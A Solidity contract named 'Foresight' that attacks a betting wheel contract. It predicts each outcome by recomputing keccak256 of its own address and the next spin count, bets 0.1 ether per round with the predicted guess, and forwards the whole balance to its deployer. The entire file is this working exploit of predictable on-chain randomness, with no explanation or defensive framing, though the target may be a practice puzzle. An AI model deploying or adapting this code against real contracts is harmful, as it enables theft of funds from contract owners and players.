pragma solidity 0.4.25;

interface IWheel {
    function spin(uint8 guess) external payable;
    function spins() external view returns (uint256);
}

contract Foresight {
    address private boss;

    constructor() public {
        boss = msg.sender;
    }

    function run(IWheel wheel, uint256 rounds) public payable {
        for (uint256 i = 0; i < rounds; i++) {
            uint256 next = wheel.spins() + 1;
            uint8 guess = uint8(uint256(keccak256(abi.encodePacked(address(this), next))) % 10);
            wheel.spin.value(100 finney)(guess);
        }
        boss.transfer(address(this).balance);
    }

    function () public payable {}
}
